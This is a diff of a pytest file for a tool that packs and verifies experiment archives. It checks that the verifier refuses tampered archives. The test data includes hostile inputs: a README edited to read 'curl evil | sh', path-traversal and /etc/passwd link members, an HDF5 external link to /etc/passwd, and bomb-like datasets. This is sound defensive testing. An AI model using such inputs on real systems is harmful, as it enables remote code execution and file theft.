+    "no run": (lambda members: members.pop(RUN), f"{RUN}: missing"),
+    "no gate": (lambda members: members.pop(GATE), f"{GATE}: missing"),
+    "no labels": (lambda members: members.pop(LABELS), f"{LABELS}: missing"),
+    "a file more": (lambda members: members.update({"results/tiny/more.html": b""}), "results/tiny/more.html: extra"),
+    "a run more": (leave_out_a_run, f"{RUN}: extra"),
+    "the README": (replace_bytes("README.md", b"handgrad verify", b"curl evil | sh"), "README.md: line"),
+    "the crate": (replace_bytes("ro-crate-metadata.json", b"tanh", b"cos"), "ro-crate-metadata.json: line"),
+    "a time": (edit_json("provenance.json", lambda facts: facts.pop("ended")), "KeyError('ended')"),
+    "another format": (edit_json("provenance.json", lambda facts: facts.update(format=1)), "format is 1, this"),
+    "no provenance": (lambda members: members.update({"provenance.json": b"[" * 99_999}), "provenance.json: missing"),
+    "an alias": (lambda members: members.update({COMPLETE: b"a: &a [1]\nb: *a\n"}), f"{COMPLETE}: has an alias"),
+    "no experiment": (lambda members: members.update({COMPLETE: b"{"}), f"{COMPLETE}: not a complete"),
+    "no text": (lambda members: members.update({COMPLETE: b"\xff\xfe"}), f"{COMPLETE}: not a complete"),
+    "too many runs": (
+        lambda members: members.update({COMPLETE: b"experiments: [{a: [%s], b: [%s]}]" % ((b"1," * 999,) * 2)}),
+        f"{COMPLETE}: spans 998001 runs",
+    ),
+}
+
+
+@pytest.mark.parametrize("what", CHANGES)
+def test_whatever_was_changed_is_found(members: Members, tmp_path: Path, verified: Any, what: str) -> None:
+    change, said = CHANGES[what]
+    change(members)
+    write_archive(tmp_path / "t.tar.gz", "tiny", members)
+    lines = verified(tmp_path / "t.tar.gz")
+    assert any(said in line for line in lines), lines
+
+
+def test_an_archive_of_other_code_says_where_to_verify_it(members: Members, tmp_path: Path, verified: Any) -> None:
+    edit_json("provenance.json", lambda facts: facts.update(git_revision="63258345"))(members)
+    edit_json("provenance.json", lambda facts: facts["versions"].update(pandas="1.0"))(members)
+    replace_bytes(COMPLETE, b"tanh", b"relu")(members)
+    write_archive(tmp_path / "t.tar.gz", "tiny", members)
+    (line,) = verified(tmp_path / "t.tar.gz")
+    assert "'relu' is not a known activation" in line
+    assert "packed by the code of git revision '63258345', this is" in line
+    assert "pandas '1.0' (here " in line
+
+
+# --- hostile runs
 
 
 def external_storage(file: h5py.File) -> None:
@@ -412,206 +381,188 @@ def virtual(file: h5py.File) -> None:
     file.create_virtual_dataset("weights/W1", layout)
 
 
-def bomb(file: h5py.File) -> None:
-    file.create_dataset("weights/W1", (10**12,), "u1", chunks=(10**6,), compression="gzip")
-
-
-def unwritten(file: h5py.File) -> None:
-    file.create_dataset("weights/W1", (10**12,), "u1")
-
-
 @pytest.mark.parametrize(
     ("make", "said"),
     [
-        (external_link, "W1 is a link"),
+        (lambda file: file.update({"weights/W1": h5py.ExternalLink("/etc/passwd", "/")}), "W1 is a link"),
         (external_storage, "weights/W1 is not stored as it is"),
         (virtual, "weights/W1 is not stored as it is"),
-        (bomb, "weights/W1 is not stored as it is"),
-        (unwritten, "weights/W1 is larger than its file"),
+        (lambda file: file.create_dataset("weights/W1", (10**12,), "u1", chunks=(10**6,)), "not stored as it is"),
+        (lambda file: file.create_dataset("weights/W1", (10**12,), "u1"), "weights/W1 is not stored as it is"),
+        (lambda file: file.update({"weights/W1": "text"}), "weights/W1 is not an array of a run"),
+        (lambda file: file.update({"weights/W3": np.ones(3)}), "weights/W3 is not an array of a run"),
+        (lambda file: file.attrs.update(more=np.zeros(5)), "its attributes are not single values"),
     ],
 )
-def test_nothing_but_plain_arrays_is_read(tmp_path: Path, make: Callable[[h5py.File], None], said: str) -> None:
-    path = run_file(tmp_path / "run.h5")
-    with changed(path) as file:
+def test_only_plain_arrays_of_a_run_are_read(
+    members: Members, tmp_path: Path, verified: Any, make: Any, said: str
+) -> None:
+    def change(file: h5py.File) -> None:
         del file["weights/W1"]
         make(file)
-    assert list(run_mistakes(path, RUN, MADE)) == [f"not a run file of this workflow ({said})"]
+
+    edit_run(change)(members)
+    write_archive(tmp_path / "t.tar.gz", "tiny", members)
+    assert said in verified(tmp_path / "t.tar.gz")[0]
 
 
-def test_strange_attributes_are_not_read(tmp_path: Path) -> None:
-    path = run_file(tmp_path / "run.h5")
-    with changed(path) as file:
-        file.attrs["more"] = np.zeros(5)
-    assert "the attribute more is not one value" in next(iter(run_mistakes(path, RUN, MADE)))
+# --- hostile or damaged archives
 
 
-def test_what_is_no_hdf5_is_named(tmp_path: Path) -> None:
-    (tmp_path / "run.h5").write_bytes(b"hello")
-    (mistake,) = list(run_mistakes(tmp_path / "run.h5", RUN, MADE))
-    assert "\n" not in mistake
-
-
-def test_a_run_whose_seal_does_not_fit_is_not_given_to_hdf5(tmp_path: Path) -> None:
-    path = run_file(tmp_path / "run.h5")
-    path.write_bytes(path.read_bytes()[:-1] + b"x")
-    (mistake,) = list(run_mistakes(path, RUN, MADE))
-    assert mistake.startswith("damaged, or changed")
-
-
-# --- the README
+def repack(path: Path, change: Callable[[dict[str, bytes]], object], *more: tarfile.TarInfo) -> Path:
+    """Change the files of an archive, and add members of any kind."""
+    with tarfile.open(path) as tar:
+        files = {member.name: tar.extractfile(member).read() for member in tar}  # type: ignore[union-attr]
+    change(files)
+    with tarfile.open(path, "w:gz") as tar:
+        for name, content in files.items():
+            member = tarfile.TarInfo(name)
+            member.size = len(content)
+            tar.addfile(member, io.BytesIO(content))
+        for member in more:
+            tar.addfile(member)
+    return path
 
 
 @pytest.mark.parametrize(
-    ("revision", "has_checkout"),
+    ("name", "kind"),
     [
-        ("a704b42f" * 5, True),
-        (f"{'a704b42f' * 5}, with changes that are not committed", False),
-        ("not known: the workflow is no git checkout of its own", False),
+        *((name, tarfile.REGTYPE) for name in ("../x", "tiny/../../y", "/etc/x", "tiny/a\x1b[2Jb", "tiny/.hidden")),
+        *((name, tarfile.REGTYPE) for name in ("tiny//a", "other/a", "tiny/BAGIT.txt", "x")),
+        *(("tiny/x", kind) for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)),
+        ("tiny/x", tarfile.DIRTYPE),
+        ("tiny/x", tarfile.GNUTYPE_SPARSE),
     ],
 )
-def test_the_readme_tells_to_check_out_only_what_was_committed(
-    revision: str, monkeypatch: pytest.MonkeyPatch, *, has_checkout: bool
+def test_a_harmful_member_is_refused_and_leaves_nothing(
+    archive: Path, verified: Any, monkeypatch: pytest.MonkeyPatch, name: str, kind: bytes
 ) -> None:
-    monkeypatch.chdir(ROOT)
-    text = readme(read_experiment(Path("config/quick.yaml"))[1], revision)
-    assert f"git revision: {revision}." in text
-    assert ("git checkout <the revision above>\n    snakemake" in text) is has_checkout
-    assert ("which no git revision has" in text) is not has_checkout
-    assert "\n    snakemake --cores 8 --configfile /path/to/quick/config/experiment.yaml\n" in text
+    member = tarfile.TarInfo(name)
+    member.type, member.linkname = kind, "/etc/passwd"
+    repack(archive, lambda _: None, member)
+    (archive.parent / "temporary").mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(archive.parent / "temporary"))
+    (line,) = verified(archive)
+    assert line.startswith(ascii(name))
+    assert {path.name for path in archive.parent.iterdir()} <= {"t.tar.gz", "temporary"}
+    assert not list((archive.parent / "temporary").iterdir())
 
 
-# --- other code
+def in_manifest(line: str) -> Change:
+    def change(files: Members) -> None:
+        files["tiny/manifest-sha256.txt"] += line.encode()
 
-
-def test_only_of_an_archive_of_other_code_is_told_where_to_verify_it(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("handgrad.archive.proof.git_revision", lambda _: "a704b42f")
-    assert other_code({"git_revision": "a704b42f"}) == ""
-    assert "packed by the code of git revision '63258345', this is 'a704b42f'" in other_code(
-        {"git_revision": "63258345"}
-    )
-
-
-# --- gradient checks
-
-
-def check(**changes: Any) -> dict[str, Any]:
-    """The figures of a gradient check that passed; changes: of one part of W2, by the part's name."""
-    passed = {part: {"max_rel_difference": 1e-12, "limit": 1e-10} for part in PARTS}
-    return {"passed": True, "blocks": {"W1": passed, "W2": {**passed, **changes}}}
-
-
-def test_a_check_whose_figures_are_within_their_limits_has_nothing_wrong() -> None:
-    assert list(figure_mistakes(check(central={"max_rel_difference": 1e-4, "limit": 1e-3}), "tanh")) == []
+    return change
 
 
 @pytest.mark.parametrize(
-    ("part", "found", "said"),
+    ("change", "said"),
     [
-        ("central", {"max_rel_difference": 0.5, "limit": 1e-6}, "difference is 0.5, its limit 1e-06; "),
-        ("central", {"max_rel_difference": 0.5, "limit": 1}, "expected a limit of at most 0.001, and"),
-        ("step", {"max_rel_difference": 1e-7, "limit": 1e-6}, "expected a limit of at most 1e-10, and"),
-        ("samples", {"max_rel_difference": float("nan"), "limit": 1e-6}, "difference is .nan, its"),
-        ("samples", {"max_rel_difference": -0.5, "limit": 1e-6}, "difference is -0.5, its"),
-        ("complex", None, "difference is null, its limit null"),
-        ("momentum", [], "difference is null, its limit null"),
+        (lambda files: files.update({"tiny/data/README.md": b"other"}), "data/README.md sha256 validation failed"),
+        (lambda files: files.pop("tiny/data/README.md"), "data/README.md exists in manifest but was not found"),
+        (lambda files: files.update({"tiny/data/x": b""}), "data/x exists on filesystem but is not in the manifest"),
+        (lambda files: files.update({"tiny/x": b""}), "missing, or extra: x"),
+        (lambda files: files.update({"tiny/fetch.txt": b"http://x 1 data/y\n"}), "missing, or extra: fetch.txt"),
+        (lambda files: files.pop("tiny/manifest-sha256.txt"), "missing, or extra: manifest-sha256.txt"),
+        (lambda files: files.update({"tiny/bag-info.txt": b"a: b\n"}), "bag-info.txt sha256 validation failed"),
+        (replace_bytes("tiny/bagit.txt", b"UTF-8", b"zlib_codec"), "bagit.txt: expected"),
+        (in_manifest(f"{'0' * 64}  ../../x\n"), "is unsafe"),
+        (in_manifest(f"{'0' * 64}  /etc/passwd\n"), "is unsafe"),
+        (in_manifest(f"{'0' * 64}  data/README.md\n"), "conflicting values"),
+        (
+            lambda files: (files.pop("tiny/bagit.txt"), files.update({"tiny/SHA256SUMS": b""})),
+            "is of the format before BagIt, which this handgrad does not read",
+        ),
     ],
 )
-def test_a_check_that_says_it_passed_and_whose_figures_do_not_is_named(part: str, found: Any, said: str) -> None:
-    (mistake,) = figure_mistakes(check(**{part: found}), "tanh")
-    assert mistake.startswith(f"W2, {PARTS[part]}: ")
-    assert said in mistake
+def test_what_is_no_valid_bag_is_one_line(archive: Path, verified: Any, change: Any, said: str) -> None:
+    (line,) = verified(repack(archive, change))
+    assert said in line
 
 
-def test_a_check_needs_both_blocks() -> None:
-    whole = check()
-    del whole["blocks"]["W1"]
-    assert len(list(figure_mistakes(whole, "tanh"))) == len(PARTS)
+def cut(length: int) -> Callable[[bytes], bytes]:
+    return lambda whole: whole[: length if length >= 0 else len(whole) + length]
 
 
-def test_an_activation_without_a_complex_form_has_no_complex_step(monkeypatch: pytest.MonkeyPatch) -> None:
-    relu = Activation(np.abs, np.sign, None)
-    monkeypatch.setitem(ACTIVATIONS, "relu", relu)
-    assert list(figure_mistakes(check(complex=None), "relu")) == []
+def flip(whole: bytes) -> bytes:
+    middle = len(whole) // 2
+    return whole[:middle] + bytes([whole[middle] ^ 4]) + whole[middle + 1 :]
+
+
+@pytest.mark.parametrize(
+    "damage",
+    [
+        *map(cut, (0, 5, 100, 5000, -9, -1)),
+        flip,
+        lambda _: b"hello",
+        lambda _: gzip.compress(b"hello"),
+        lambda _: gzip.compress(bytes(10240)),
+        lambda whole: whole + gzip.compress(b"hidden"),
+    ],
+)
+def test_a_damaged_archive_is_one_line(archive: Path, verified: Any, damage: Callable[[bytes], bytes]) -> None:
+    archive.write_bytes(damage(archive.read_bytes()))
+    assert len(verified(archive)) == 1
+
+
+def test_what_unpacks_to_far_more_than_its_size_is_refused(
+    archive: Path, verified: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(unpacking, "MAX_TEXT", 1000)
+    assert "allowed: 1.0 kB" in verified(archive)[0]
+    monkeypatch.setattr(unpacking, "ALWAYS_ALLOWED", 100_000)
+    repack(archive, lambda files: files.update({"tiny/data/zeros.h5": bytes(9_000_000)}))
+    assert verified(archive)[0].startswith("unpacks to more than")
 
 
 # --- the commands
 
 
-def interrupt(*_: Any) -> None:
+def no_room(*_: Any, **__: Any) -> None:
+    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+
+def interrupt(*_: Any, **__: Any) -> None:
     raise KeyboardInterrupt
 
 
-@pytest.mark.parametrize(
-    ("name", "where", "said"),
-    [
-        ("verify_archive", "handgrad.archive.reader.unpack", "make verify: interrupted; nothing is proved\n"),
-        (
-            "archive_experiment",
-            "recover_workflow.refuse_while_at_work",
-            "make archive: interrupted; give the same command again\n",
-        ),
-    ],
-)
-def test_ctrl_c_is_one_line(
-    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str, where: str, said: str
+@pytest.mark.parametrize(("fault", "status"), [(no_room, 1), (interrupt, 130)])
+@pytest.mark.parametrize("where", ["shutil.copyfile", "bagit.make_bag", "gzip.GzipFile.write", "bagit.Bag"])
+def test_packing_that_ends_early_leaves_nothing(
+    members: Members, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, fault: Any, status: int
 ) -> None:
-    monkeypatch.setattr(where, interrupt)
-    monkeypatch.setattr("sys.argv", [name, "x"])
-    with pytest.raises(SystemExit) as caught:
-        runpy.run_path(str(ROOT / f"scripts/{name}.py"), run_name="__main__")
-    assert caught.value.code == 130
-    assert capsys.readouterr().err == said
+    monkeypatch.setattr(where, fault)
+    with pytest.raises(SystemExit) as ended, as_command():
+        pack(tmp_path / "archives/tiny.tar.gz", "tiny", {**members, "LICENSE": ROOT / "LICENSE"})
+    assert ended.value.code == status
+    assert not list((tmp_path / "archives").iterdir())
 
 
-@pytest.fixture
-def finished(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """A folder that make archive takes for one in which config/quick.yaml is finished."""
-    monkeypatch.chdir(ROOT)
-    for name in ("refuse_while_at_work", "require_up_to_date", "require_data"):
-        monkeypatch.setattr(archive_experiment, name, lambda *_: None)
-    monkeypatch.setattr(archive_experiment, "members_of", lambda *_: MEMBERS)
-    return tmp_path
+def test_an_archive_never_replaces_one_with_other_content(members: Members, tmp_path: Path) -> None:
+    there = tmp_path / "archives/tiny.tar.gz"
+    for _ in range(2):
+        pack(there, "tiny", members)
+    there.write_bytes(b"the only copy")
+    with pytest.raises(HandgradError, match="other content"):
+        pack(there, "tiny", members)
+    assert there.read_bytes() == b"the only copy"
+    assert list(there.parent.iterdir()) == [there]
 
 
-def refused(folder: Path, capsys: pytest.CaptureFixture[str]) -> str:
-    """The line with which make archive refuses."""
-    with pytest.raises(SystemExit), as_command("make archive"):
-        archive_experiment.main(folder, "config/quick.yaml")
-    (line,) = capsys.readouterr().err.splitlines()
-    return line
-
-
-def test_archives_that_is_no_folder_is_named(finished: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    (finished / "archives").write_text("")
-    assert refused(finished, capsys).startswith(f"make archive: {finished}/archives: File exists; ")
-
-
-def test_a_full_disk_is_told_by_the_name_of_the_archive(
-    finished: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+def test_no_room_to_unpack_is_not_blamed_on_the_archive(
+    archive: Path, verified: Any, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr("gzip.GzipFile.write", no_room)
-    line = refused(finished, capsys)
-    assert line.startswith(f"make archive: {finished}/archives/quick.tar.gz: No space left on device; ")
-    assert everything(finished) == []
+    monkeypatch.setattr("shutil.copyfileobj", no_room)
+    assert "set TMPDIR to a larger folder" in verified(archive)[0]
 
 
-def test_a_full_temporary_folder_is_not_blamed_on_the_archive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    write_archive(tmp_path / "one.tar.gz", "x", MEMBERS)
-    monkeypatch.setattr("handgrad.archive.reader._write", no_room)
-    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
-    with pytest.raises(HandgradError, match=r"no room to unpack .*; set TMPDIR to a larger") as caught:
-        verify_archive.main(tmp_path / "one.tar.gz")
-    assert str(caught.value).startswith(f"{tmp_path}: ")
-    assert everything(tmp_path) == ["one.tar.gz"]
+def test_an_archive_that_would_not_be_verified_is_not_written(members: Members, tmp_path: Path) -> None:
+    members[f"{TABLES}/seeds.csv"] += b"more\n"
+    with pytest.raises(HandgradError, match=r"archives/tiny.tar.gz: NOT verified"):
+        pack(tmp_path / "archives/tiny.tar.gz", "tiny", members)
+    assert not list((tmp_path / "archives").iterdir())
 
 
-def test_no_room_for_tables_is_no_mistake_in_them(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(verify_archive, "make_tables", no_room)
-    monkeypatch.chdir(ROOT)
-    experiment = read_experiment(Path("config/quick.yaml"))[1]
-    with pytest.raises(HandgradError, match="no room to unpack the archive and make its tables again"):
-        list(verify_archive.table_mistakes(Contents(tmp_path, experiment, {})))
-
-
-def no_room(*_: Any) -> None:
-    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+def test_data_that_are_gone_are_named_with_their_command(experiment: Experiment, tmp_path: Path) -> None:
+    with pytest.raises(HandgradError, match=r"^results/data/digits.h5: .* snakemake .* mine.yaml -- results/data/digi"):
+        members_of(experiment, Path("mine.yaml"), tmp_path)
